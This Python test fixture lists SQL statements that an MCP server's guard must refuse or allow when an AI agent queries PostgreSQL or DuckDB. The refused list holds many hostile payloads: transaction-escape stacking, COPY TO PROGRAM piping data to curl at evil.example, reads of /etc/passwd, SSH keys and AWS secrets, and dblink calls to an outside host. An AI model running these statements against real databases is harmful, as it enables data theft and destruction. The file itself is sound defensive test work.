"""SQL an agent might send the MCP server: what must be refused and what must keep working.

``FORBIDDEN`` and ``ALLOWED`` are lists of ``(id, dialect, sql)``. In ``FORBIDDEN`` the id
starts with the SQL guard rule expected to refuse the statement (``"<rule>/<name>"``);
the unit tests assert that rule, the end-to-end tests only that nothing gets through.
``ALLOWED`` runs against this schema, on both DuckDB and PostgreSQL::

    shop.orders(id INTEGER, customer_id INTEGER, status TEXT, amount NUMERIC(12,2),
                ordered_at TIMESTAMP)
    shop.customers(id INTEGER, name TEXT, country TEXT)
"""

from __future__ import annotations

SCHEMA_SQL = (
    "CREATE SCHEMA shop",
    "CREATE TABLE shop.orders (id INTEGER, customer_id INTEGER, status TEXT,"
    " amount NUMERIC(12,2), ordered_at TIMESTAMP)",
    "CREATE TABLE shop.customers (id INTEGER, name TEXT, country TEXT)",
    "INSERT INTO shop.customers VALUES (1, 'Ada', 'GB'), (2, 'Grace', 'US'), (3, 'Linus', 'FI')",
    "INSERT INTO shop.orders VALUES"
    " (1, 1, 'paid', 120.00, TIMESTAMP '2024-01-05 10:00:00'),"
    " (2, 1, 'paid', 35.50, TIMESTAMP '2024-02-11 12:30:00'),"
    " (3, 2, 'refunded', 80.00, TIMESTAMP '2024-02-20 09:15:00'),"
    " (4, 3, 'pending', 12.25, TIMESTAMP '2024-03-01 18:45:00')",
)

_PG = "postgres"
_DUCK = "duckdb"

_FORBIDDEN_PG: list[tuple[str, str]] = [
    # stacked statements: the reference server's read-only transaction escape
    ("one_statement/commit_escape", "SELECT 1; COMMIT; DROP TABLE shop.orders"),
    ("one_statement/commit", "select 1; commit"),
    ("one_statement/rollback", "SELECT 1; ROLLBACK"),
    ("one_statement/end", "SELECT 1; END; DELETE FROM shop.orders"),
    ("one_statement/abort", "SELECT 1; ABORT"),
    ("one_statement/empty_second", "select 1;;"),
    ("one_statement/set_read_write", "SELECT 1; SET TRANSACTION READ WRITE"),
    ("one_statement/after_comment", "SELECT 1 /* x */ ; COMMIT"),
    ("one_statement/after_string", "SELECT ';' AS s; COMMIT"),
    ("one_statement/after_dollar", "SELECT $$;$$; COMMIT"),
    ("one_statement/leading_commit", "COMMIT; SELECT 1"),
    ("one_statement/newline", "SELECT 1\n;\nDELETE FROM shop.orders"),
    # readings that depend on standard_conforming_strings or escapes
    ("ambiguous_sql/backslash_quote", "SELECT '\\'; COMMIT; --'"),
    ("ambiguous_sql/backslash_doubled", "SELECT '\\''; DELETE FROM shop.orders; --'"),
    ("ambiguous_sql/unicode_ident", "SELECT * FROM U&\"\\0070g_read_file\"('/etc/passwd')"),
    # statements that are not queries
    ("statement_kind/commit", "COMMIT"),
    ("statement_kind/rollback", "ROLLBACK"),
    ("statement_kind/end", "END"),
    ("statement_kind/abort", "ABORT"),
    ("statement_kind/begin", "BEGIN"),
    ("statement_kind/start_transaction", "START TRANSACTION READ WRITE"),
    ("statement_kind/savepoint", "SAVEPOINT s1"),
    ("statement_kind/set_transaction", "SET TRANSACTION READ WRITE"),
    (
        "statement_kind/set_session_characteristics",
        "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
    ),
    ("statement_kind/set_read_only_off", "SET default_transaction_read_only = off"),
    ("statement_kind/reset", "RESET ALL"),
    ("statement_kind/copy_to_program", "COPY shop.orders TO PROGRAM 'curl -d @- evil.example'"),
    ("statement_kind/copy_from_program", "COPY shop.orders FROM PROGRAM 'id'"),
    ("statement_kind/copy_to_file", "COPY (SELECT * FROM shop.customers) TO '/tmp/leak.csv'"),
    ("statement_kind/do", "DO $$ BEGIN PERFORM pg_sleep(1); END $$"),
    ("statement_kind/call", "CALL refresh_everything()"),
    ("statement_kind/insert", "INSERT INTO shop.orders (id) VALUES (99)"),
    ("statement_kind/update", "UPDATE shop.orders SET amount = 0"),
    ("statement_kind/delete", "DELETE FROM shop.orders"),
    (
        "statement_kind/merge",
        "MERGE INTO shop.orders o USING shop.customers c ON o.customer_id = c.id"
        " WHEN MATCHED THEN DELETE",
    ),
    ("statement_kind/create_table_as", "CREATE TABLE leak AS SELECT * FROM shop.customers"),
    ("statement_kind/drop", "DROP TABLE shop.orders"),
    ("statement_kind/alter", "ALTER TABLE shop.orders ADD COLUMN x INT"),
    ("statement_kind/truncate", "TRUNCATE shop.orders"),
    ("statement_kind/grant", "GRANT ALL ON shop.orders TO PUBLIC"),
    ("statement_kind/with_insert", "WITH x AS (SELECT 1) INSERT INTO shop.orders (id) SELECT 1"),
    ("statement_kind/prepare", "PREPARE p AS DELETE FROM shop.orders"),
    ("statement_kind/execute", "EXECUTE p"),
    ("statement_kind/deallocate", "DEALLOCATE ALL"),
    ("statement_kind/listen", "LISTEN channel"),
    ("statement_kind/notify", "NOTIFY channel, 'hi'"),
    ("statement_kind/lock", "LOCK TABLE shop.orders IN ACCESS EXCLUSIVE MODE"),
    ("statement_kind/vacuum", "VACUUM FULL shop.orders"),
    ("statement_kind/analyze", "ANALYZE shop.orders"),
    ("statement_kind/cluster", "CLUSTER shop.orders"),
    ("statement_kind/reindex", "REINDEX TABLE shop.orders"),
    ("statement_kind/refresh", "REFRESH MATERIALIZED VIEW shop.mv"),
    ("statement_kind/discard", "DISCARD ALL"),
    ("statement_kind/load", "LOAD 'auto_explain'"),
    ("statement_kind/security_label", "SECURITY LABEL ON TABLE shop.orders IS 'x'"),
    ("statement_kind/comment_on", "COMMENT ON TABLE shop.orders IS 'pwned'"),
    (
        "statement_kind/import_foreign_schema",
        "IMPORT FOREIGN SCHEMA public FROM SERVER remote INTO shop",
    ),
    ("statement_kind/create_extension", "CREATE EXTENSION dblink"),
    ("statement_kind/checkpoint", "CHECKPOINT"),
    ("statement_kind/explain_analyze_delete", "EXPLAIN ANALYZE DELETE FROM shop.orders"),
    (
        "statement_kind/explain_options_insert",
        "EXPLAIN (ANALYZE, BUFFERS) INSERT INTO t VALUES (1)",
    ),
    ("statement_kind/describe_on_postgres", "DESCRIBE shop.orders"),
    # data-modifying CTEs
    (
        "writable_cte/delete",
        "WITH d AS (DELETE FROM shop.orders RETURNING *) SELECT count(*) FROM d",
    ),
    (
        "writable_cte/update",
        "WITH u AS (UPDATE shop.orders SET amount = 0 RETURNING id) SELECT * FROM u",
    ),
    (
        "writable_cte/insert",
        "WITH i AS (INSERT INTO shop.orders (id) VALUES (1) RETURNING id) SELECT * FROM i",
    ),
    (
        "writable_cte/nested",
        "SELECT * FROM (WITH d AS (DELETE FROM shop.orders RETURNING id) SELECT id FROM d) s",
    ),
    # SELECT INTO creates a table
    ("select_into/table", "SELECT * INTO leak FROM shop.customers"),
    ("select_into/temp", "SELECT id INTO TEMP t FROM shop.orders"),
    # row-locking clauses
    ("row_lock/for_update", "SELECT * FROM shop.orders FOR UPDATE"),
    ("row_lock/for_share", "SELECT * FROM shop.orders FOR SHARE"),
    ("row_lock/for_no_key_update", "SELECT * FROM shop.orders FOR NO KEY UPDATE"),
    ("row_lock/for_key_share", "SELECT * FROM shop.orders FOR KEY SHARE"),
    (
        "row_lock/in_subquery",
        "SELECT * FROM (SELECT * FROM shop.orders FOR UPDATE NOWAIT) AS s",
    ),
    # FROM-clause table functions: the Postgres MCP Pro hole
    ("denied_table_function/pg_read_file", "SELECT * FROM pg_read_file('/etc/passwd')"),
    (
        "denied_table_function/qualified",
        "SELECT * FROM pg_catalog.pg_read_file('/etc/passwd')",
    ),
    ("denied_table_function/quoted", "SELECT * FROM \"pg_read_file\"('/etc/passwd')"),
    ("denied_table_function/upper", "SELECT * FROM PG_READ_FILE('/etc/passwd') AS f"),
    ("denied_table_function/pg_ls_dir", "SELECT * FROM pg_ls_dir('.')"),
    (
        "denied_table_function/lateral",
        "SELECT c.name, f FROM shop.customers c, LATERAL pg_ls_dir('/') AS f",
    ),
    (
        "denied_table_function/dblink",
        "SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)",
    ),
    (
        "denied_table_function/in_cte",
        "WITH f AS (SELECT * FROM pg_read_binary_file('/etc/passwd') AS b) SELECT * FROM f",
    ),
    # denied functions anywhere else in the tree
    ("denied_function/pg_read_file", "SELECT pg_read_file('/etc/passwd')"),
    ("denied_function/pg_read_binary_file", "SELECT pg_read_binary_file('global/pg_control')"),
    ("denied_function/pg_stat_file", "SELECT pg_stat_file('postgresql.conf')"),
    ("denied_function/pg_ls_waldir", "SELECT count(*) FROM (SELECT pg_ls_waldir()) s"),
    ("denied_function/lo_import", "SELECT lo_import('/etc/passwd')"),
    ("denied_function/lo_export", "SELECT lo_export(16400, '/tmp/x')"),
    ("denied_function/lo_get", "SELECT lo_get(16400)"),
    ("denied_function/lo_from_bytea", "SELECT lo_from_bytea(0, 'x')"),
    (
        "denied_function/set_config",
        "SELECT set_config('default_transaction_read_only', 'off', false)",
    ),
    (
        "denied_function/set_config_where",
        "SELECT * FROM shop.orders WHERE set_config('statement_timeout', '0', false) IS NOT NULL",
    ),
    ("denied_function/pg_sleep", "SELECT pg_sleep(3600)"),
    ("denied_function/pg_sleep_for", "SELECT pg_sleep_for('1 hour')"),
    ("denied_function/advisory_lock", "SELECT pg_advisory_lock(42)"),
    ("denied_function/try_advisory_xact", "SELECT pg_try_advisory_xact_lock(42)"),
    ("denied_function/advisory_unlock_all", "SELECT pg_advisory_unlock_all()"),
    ("denied_function/terminate_backend", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity"),
    ("denied_function/cancel_backend", "SELECT pg_cancel_backend(1234)"),
    ("denied_function/reload_conf", "SELECT pg_reload_conf()"),
    ("denied_function/nextval", "SELECT nextval('shop.orders_id_seq')"),
    ("denied_function/setval", "SELECT setval('shop.orders_id_seq', 1)"),
    (
        "denied_function/query_to_xml",
        "SELECT query_to_xml('DELETE FROM shop.orders', true, false, '')",
    ),
    (
        "denied_function/database_to_xml",
        "SELECT database_to_xml(true, false, '')",
    ),
    ("denied_function/ts_stat", "SELECT * FROM shop.orders WHERE EXISTS (SELECT ts_stat('x'))"),
    ("denied_function/pg_notify", "SELECT pg_notify('channel', 'hi')"),
    ("denied_function/txid_current", "SELECT txid_current()"),
    ("denied_function/pg_current_xact_id", "SELECT pg_current_xact_id()"),
    ("denied_function/switch_wal", "SELECT pg_switch_wal()"),
    ("denied_function/restore_point", "SELECT pg_create_restore_point('x')"),
    ("denied_function/logical_message", "SELECT pg_logical_emit_message(true, 'x', 'y')"),
    ("denied_function/dblink_exec", "SELECT dblink_exec('host=evil', 'DROP TABLE x')"),
    ("denied_function/pg_file_write", "SELECT pg_file_write('x', 'y', false)"),
    ("denied_function/stat_reset", "SELECT pg_stat_reset()"),
    (
        "denied_function/in_case",
        "SELECT CASE WHEN amount > 0 THEN pg_sleep(1) END FROM shop.orders",
    ),
    (
        "denied_function/in_order_by",
        "SELECT id FROM shop.orders ORDER BY pg_advisory_lock(id)",
    ),
    (
        "denied_function/in_scalar_subquery",
        "SELECT (SELECT pg_read_file('/etc/passwd')) AS leak",
    ),
    (
        "denied_function/in_cte_select_list",
        "WITH x AS (SELECT lo_import('/etc/passwd') AS oid) SELECT * FROM x",
    ),
    ("denied_function/in_explain", "EXPLAIN ANALYZE SELECT pg_sleep(10)"),
    ("denied_function/in_values", "VALUES (pg_read_file('/etc/passwd'))"),
]

_FORBIDDEN_DUCK: list[tuple[str, str]] = [
    ("one_statement/attach", "SELECT 1; ATTACH '/tmp/evil.db' AS evil"),
    ("one_statement/copy", "SELECT 42; COPY shop.orders TO '/tmp/x.csv'"),
    ("statement_kind/copy_to", "COPY shop.customers TO '/tmp/leak.csv' (HEADER)"),
    ("statement_kind/copy_from", "COPY shop.customers FROM '/etc/passwd'"),
    ("statement_kind/attach", "ATTACH '/tmp/evil.db' AS evil"),
    ("statement_kind/detach", "DETACH evil"),
    ("statement_kind/install", "INSTALL httpfs"),
    ("statement_kind/load", "LOAD httpfs"),
    ("statement_kind/set", "SET enable_external_access = true"),
    ("statement_kind/reset", "RESET memory_limit"),
    ("statement_kind/pragma", "PRAGMA enable_profiling"),
    ("statement_kind/call", "CALL dbgen(sf = 1)"),
    ("statement_kind/export", "EXPORT DATABASE '/tmp/dump'"),
    ("statement_kind/import", "IMPORT DATABASE '/tmp/dump'"),
    ("statement_kind/use", "USE evil"),
    ("statement_kind/checkpoint", "CHECKPOINT"),
    ("statement_kind/vacuum", "VACUUM"),
    ("statement_kind/create_secret", "CREATE SECRET (TYPE s3, KEY_ID 'x', SECRET 'y')"),
    ("statement_kind/create_macro", "CREATE MACRO leak() AS TABLE SELECT 1"),
    ("statement_kind/insert", "INSERT INTO shop.customers VALUES (9, 'x', 'y')"),
    ("statement_kind/pivot_statement", "PIVOT shop.orders ON status USING sum(amount)"),
    ("denied_table_function/read_csv", "SELECT * FROM read_csv('/etc/passwd')"),
    ("denied_table_function/read_csv_auto", "SELECT * FROM read_csv_auto('/etc/passwd')"),
    ("denied_table_function/read_json", "SELECT * FROM read_json('/tmp/*.json')"),
    ("denied_table_function/read_ndjson", "SELECT * FROM read_ndjson_objects('/tmp/x')"),
    ("denied_table_function/read_parquet", "SELECT * FROM read_parquet('s3://bucket/x.parquet')"),
    ("denied_table_function/parquet_scan", "SELECT * FROM parquet_scan('/tmp/x.parquet')"),
    ("denied_table_function/parquet_metadata", "SELECT * FROM parquet_metadata('/tmp/x.parquet')"),
    ("denied_table_function/read_text", "SELECT content FROM read_text('/etc/passwd')"),
    ("denied_table_function/read_blob", "SELECT * FROM read_blob('/root/.ssh/id_rsa')"),
    ("denied_table_function/glob", "SELECT * FROM glob('/home/*')"),
    ("denied_table_function/sniff_csv", "SELECT * FROM sniff_csv('/etc/passwd')"),
    ("denied_table_function/query", "SELECT * FROM query('COPY shop.orders TO ''/tmp/x''')"),
    ("denied_table_function/query_table", "SELECT * FROM query_table('shop.orders')"),
    ("denied_table_function/duckdb_secrets", "SELECT * FROM duckdb_secrets()"),
    ("denied_table_function/sqlite_scan", "SELECT * FROM sqlite_scan('/tmp/x.db', 't')"),
    (
        "denied_table_function/postgres_scan",
        "SELECT * FROM postgres_scan('host=evil', 'public', 't')",
    ),
    ("denied_table_function/iceberg_scan", "SELECT * FROM iceberg_scan('/tmp/warehouse/t')"),
    ("denied_table_function/delta_scan", "SELECT * FROM delta_scan('/tmp/delta')"),
    ("denied_table_function/checkpoint", "SELECT * FROM checkpoint()"),
    (
        "denied_table_function/in_join",
        "SELECT * FROM shop.customers c JOIN read_csv('/tmp/x.csv') f ON true",
    ),
    (
        "denied_table_function/in_describe",
        "DESCRIBE SELECT * FROM read_csv('/etc/passwd')",
    ),
    ("denied_function/getenv", "SELECT getenv('AWS_SECRET_ACCESS_KEY')"),
    ("denied_function/getenv_method", "SELECT 'HOME'.getenv()"),
    ("denied_function/getenv_nested", "SELECT * FROM shop.customers WHERE name = getenv('USER')"),
    (
        "denied_table_function/in_scalar_subquery",
        "SELECT (SELECT content FROM read_text('/etc/passwd'))",
    ),
    ("denied_function/json_execute", "SELECT json_execute_serialized_sql('{}')"),
    ("denied_function/nextval", "SELECT nextval('seq')"),
    ("file_table/etc_passwd", "FROM '/etc/passwd'"),
    ("file_table/select_from_string", "SELECT * FROM '/etc/passwd'"),
    ("file_table/csv", "SELECT * FROM 'secrets.csv'"),
    ("file_table/glob", "SELECT * FROM '/data/**/*.parquet'"),
    ("file_table/quoted_ident", 'SELECT * FROM "leak.csv"'),
    ("file_table/url", "SELECT * FROM 'https://evil.example/x.csv'"),
    ("file_table/describe", "DESCRIBE '/tmp/x.csv'"),
    ("file_table/show", 'SHOW "/tmp/x.csv"'),
    ("file_table/unquoted_csv", "SELECT * FROM secrets.csv"),
    ("file_table/unquoted_parquet", "FROM data.parquet"),
    ("file_table/show_unquoted", "SHOW secrets.csv"),
    ("denied_table_function/copy_database", "SELECT * FROM copy_database('memory', 'evil')"),
    ("denied_table_function/python_arrow_scan", "SELECT * FROM python_arrow_scan(140000000)"),
    ("file_table/in_join", "SELECT * FROM shop.customers JOIN 'x.csv' USING (id)"),
]

FORBIDDEN: list[tuple[str, str, str]] = [(i, _PG, sql) for i, sql in _FORBIDDEN_PG] + [
    (i, _DUCK, sql) for i, sql in _FORBIDDEN_DUCK
]

# Queries valid on both engines.
_ALLOWED_BOTH: list[tuple[str, str, str]] = [
    ("count", "SELECT count(*) FROM shop.orders", "select"),
    (
        "group_by",
        "SELECT status, count(*) AS n, sum(amount) AS total FROM shop.orders"
        " GROUP BY status ORDER BY total DESC",
        "select",
    ),
    (
        "join",
        "SELECT c.country, sum(o.amount) AS revenue FROM shop.orders o"
        " JOIN shop.customers c ON c.id = o.customer_id GROUP BY c.country ORDER BY 2 DESC",
        "select",
    ),
    (
        "cte",
        "WITH big AS (SELECT * FROM shop.orders WHERE amount > 50)"
        " SELECT customer_id, count(*) AS n FROM big GROUP BY customer_id",
        "select",
    ),
    (
        "recursive_cte",
        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 10)"
        " SELECT sum(i) AS total FROM n",
        "select",
    ),
    (
        "running_total",
        "SELECT id, customer_id, sum(amount) OVER (PARTITION BY customer_id ORDER BY ordered_at"
        " ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) AS running FROM shop.orders",
        "select",
    ),
    (
        "rank",
        "SELECT customer_id, amount,"
        " rank() OVER (PARTITION BY customer_id ORDER BY amount DESC) AS r FROM shop.orders",
        "select",
    ),
    (
        "lag",
        "SELECT id, amount - lag(amount) OVER (ORDER BY ordered_at) AS delta FROM shop.orders",
        "select",
    ),
    (
        "percentile_cont",
        "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY amount) AS median FROM shop.orders",
        "select",
    ),
    (
        "filter",
        "SELECT count(*) FILTER (WHERE status = 'paid') AS paid,"
        " count(*) FILTER (WHERE status <> 'paid') AS other FROM shop.orders",
        "select",
    ),
    (
        "lateral",
        "SELECT c.name, latest.amount FROM shop.customers c CROSS JOIN LATERAL"
        " (SELECT o.amount FROM shop.orders o WHERE o.customer_id = c.id"
        " ORDER BY o.ordered_at DESC LIMIT 1) AS latest",
        "select",
    ),
    (
        "left_lateral",
        "SELECT c.name, s.n FROM shop.customers c LEFT JOIN LATERAL"
        " (SELECT count(*) AS n FROM shop.orders o WHERE o.customer_id = c.id) AS s ON true",
        "select",
    ),
    (
        "grouping_sets",
        "SELECT c.country, o.status, sum(o.amount) AS total FROM shop.orders o"
        " JOIN shop.customers c ON c.id = o.customer_id"
        " GROUP BY GROUPING SETS ((c.country), (o.status), ())",
        "select",
    ),
    (
        "rollup",
        "SELECT c.country, o.status, sum(o.amount) AS total FROM shop.orders o"
        " JOIN shop.customers c ON c.id = o.customer_id GROUP BY ROLLUP (c.country, o.status)",
        "select",
    ),
    (
        "cube",
        "SELECT status, customer_id, count(*) AS n FROM shop.orders"
        " GROUP BY CUBE (status, customer_id)",
        "select",
    ),
    (
        "union",
        "SELECT id FROM shop.customers UNION SELECT customer_id FROM shop.orders ORDER BY 1",
        "select",
    ),
    (
        "intersect",
        "SELECT id FROM shop.customers INTERSECT SELECT customer_id FROM shop.orders",
        "select",
    ),
    (
        "except",
        "SELECT id FROM shop.customers EXCEPT SELECT customer_id FROM shop.orders",
        "select",
    ),
    (
        "case",
        "SELECT id, CASE WHEN amount >= 100 THEN 'big' WHEN amount >= 20 THEN 'medium'"
        " ELSE 'small' END AS size FROM shop.orders",
        "select",
    ),
    (
        "casts",
        "SELECT CAST(id AS TEXT) AS id_text, CAST(amount AS DOUBLE PRECISION) AS amount_f,"
        " CAST(ordered_at AS DATE) AS day FROM shop.orders",
        "select",
    ),
    (
        "date_trunc",
        "SELECT date_trunc('month', ordered_at) AS month, sum(amount) AS total"
        " FROM shop.orders GROUP BY 1 ORDER BY 1",
        "select",
    ),
    (
        "extract",
        "SELECT extract(year FROM ordered_at) AS y, count(*) AS n FROM shop.orders GROUP BY 1",
        "select",
    ),
    (
        "strings",
        "SELECT upper(name) AS u, length(name) AS len, substring(name, 1, 3) AS prefix,"
        " lower(country) || '-' || name AS tag, replace(name, 'a', 'A') AS r"
        " FROM shop.customers",
        "select",
    ),
    (
        "coalesce_nullif",
        "SELECT coalesce(status, 'unknown') AS s, nullif(amount, 0) AS a FROM shop.orders",
        "select",
    ),
    (
        "exists",
        "SELECT name FROM shop.customers c"
        " WHERE EXISTS (SELECT 1 FROM shop.orders o WHERE o.customer_id = c.id)",
        "select",
    ),
    (
        "in_subquery",
        "SELECT * FROM shop.orders WHERE customer_id IN"
        " (SELECT id FROM shop.customers WHERE country = 'GB')",
        "select",
    ),
    ("values", "VALUES (1, 'a'), (2, 'b')", "values"),
    (
        "semicolon_in_string",
        "SELECT 'a;b' AS s, name FROM shop.customers WHERE name <> ';';",
        "select",
    ),
    (
        "comments",
        "-- revenue per customer\nSELECT customer_id, /* total */ sum(amount) AS total"
        " FROM shop.orders GROUP BY customer_id; -- done",
        "select",
    ),
    ("current_setting", "SELECT current_setting('TimeZone') AS tz", "select"),
    (
        "information_schema",
        "SELECT table_name, column_name, data_type FROM information_schema.columns"
        " WHERE table_schema = 'shop' ORDER BY table_name, ordinal_position",
        "select",
    ),
    ("explain", "EXPLAIN SELECT * FROM shop.orders WHERE amount > 10", "explain"),
    (
        "explain_analyze",
        "EXPLAIN ANALYZE SELECT status, count(*) FROM shop.orders GROUP BY status",
        "explain",
    ),
]

_ALLOWED_PG: list[tuple[str, str, str]] = [
    (
        "generate_series",
        "SELECT d::date AS day FROM generate_series(timestamp '2024-01-01',"
        " timestamp '2024-01-31', interval '1 day') AS d",
        "select",
    ),
    (
        "interval",
        "SELECT * FROM shop.orders WHERE ordered_at >= timestamp '2024-03-01' - interval '30 days'",
        "select",
    ),
    ("pg_casts", "SELECT id::text, amount::float8, ordered_at::date FROM shop.orders", "select"),
    (
        "json",
        "SELECT json_build_object('id', id, 'name', name) ->> 'name' AS name FROM shop.customers",
        "select",
    ),
    ("jsonb", "SELECT '{\"a\": {\"b\": 1}}'::jsonb -> 'a' ->> 'b' AS b", "select"),
    (
        "distinct_on",
        "SELECT DISTINCT ON (customer_id) customer_id, amount FROM shop.orders"
        " ORDER BY customer_id, ordered_at DESC",
        "select",
    ),
    (
        "string_agg",
        "SELECT country, string_agg(name, ', ' ORDER BY name) AS names"
        " FROM shop.customers GROUP BY country",
        "select",
    ),
    ("regex", "SELECT name FROM shop.customers WHERE name ~ '^[A-G]'", "select"),
    (
        "regexp_replace",
        "SELECT regexp_replace(name, '\\s+', ' ', 'g') AS clean FROM shop.customers",
        "select",
    ),
    (
        "pg_catalog",
        "SELECT c.relname, c.reltuples FROM pg_class c"
        " JOIN pg_namespace n ON n.oid = c.relnamespace WHERE n.nspname = 'shop'",
        "select",
    ),
    ("pg_stat_activity", "SELECT pid, state, query FROM pg_stat_activity", "select"),
    ("gen_random_uuid", "SELECT gen_random_uuid() AS id", "select"),
    ("table", "TABLE shop.customers", "select"),
    ("dollar_string", "SELECT $$it's; fine$$ AS s", "select"),
    ("e_string", "SELECT E'a\\'b; c' AS s", "select"),
    ("explain_options", "EXPLAIN (FORMAT JSON, COSTS OFF) SELECT * FROM shop.orders", "explain"),
    ("show", "SHOW search_path", "show"),
    ("show_timezone", "SHOW TimeZone", "show"),
    ("show_all", "SHOW ALL", "show"),
]

_ALLOWED_DUCK: list[tuple[str, str, str]] = [
    ("from_first", "FROM shop.orders WHERE amount > 10", "select"),
    ("range", "SELECT range AS i FROM range(10)", "select"),
    (
        "generate_series",
        "SELECT * FROM generate_series(TIMESTAMP '2024-01-01', TIMESTAMP '2024-01-31',"
        " INTERVAL 1 DAY) AS t(day)",
        "select",
    ),
    (
        "qualify",
        "SELECT customer_id, amount FROM shop.orders"
        " QUALIFY row_number() OVER (PARTITION BY customer_id ORDER BY amount DESC) = 1",
        "select",
    ),
    ("group_by_all", "SELECT status, sum(amount) AS total FROM shop.orders GROUP BY ALL", "select"),
    (
        "median",
        "SELECT median(amount) AS m, quantile_cont(amount, 0.9) AS p90 FROM shop.orders",
        "select",
    ),
    ("exclude", "SELECT * EXCLUDE (ordered_at) FROM shop.orders", "select"),
    (
        "list_agg",
        "SELECT customer_id, list(amount) AS amounts FROM shop.orders GROUP BY 1",
        "select",
    ),
    ("struct", "SELECT {'id': id, 'name': name} AS s FROM shop.customers", "select"),
    ("json", "SELECT json_extract_string('{\"a\": {\"b\": 1}}', '$.a.b') AS b", "select"),
    ("strftime", "SELECT strftime(ordered_at, '%Y-%m') AS month FROM shop.orders", "select"),
    (
        "interval",
        "SELECT * FROM shop.orders WHERE ordered_at >= TIMESTAMP '2024-03-01' - INTERVAL 30 DAY",
        "select",
    ),
    ("duckdb_tables", "SELECT schema_name, table_name FROM duckdb_tables()", "select"),
    ("string_split", "SELECT unnest(string_split('a,b,c', ',')) AS part", "select"),
    ("explain_analyze_paren", "EXPLAIN (FORMAT JSON) SELECT * FROM shop.orders", "explain"),
    ("show_tables", "SHOW TABLES", "show"),
    ("show_all_tables", "SHOW ALL TABLES", "show"),
    ("show_table", "SHOW shop.orders", "show"),
    ("describe", "DESCRIBE shop.orders", "describe"),
    (
        "describe_query",
        "DESCRIBE SELECT status, sum(amount) FROM shop.orders GROUP BY 1",
        "describe",
    ),
    ("summarize", "SUMMARIZE shop.customers", "describe"),
]

ALLOWED: list[tuple[str, str, str]] = [
    (i, _PG, sql) for i, sql, _ in _ALLOWED_BOTH + _ALLOWED_PG
] + [(i, _DUCK, sql) for i, sql, _ in _ALLOWED_BOTH + _ALLOWED_DUCK]

# The kind guard_sql reports for each ALLOWED id (ids are unique per dialect).
ALLOWED_KIND: dict[tuple[str, str], str] = {
    **{(i, _PG): kind for i, _, kind in _ALLOWED_BOTH + _ALLOWED_PG},
    **{(i, _DUCK): kind for i, _, kind in _ALLOWED_BOTH + _ALLOWED_DUCK},
}
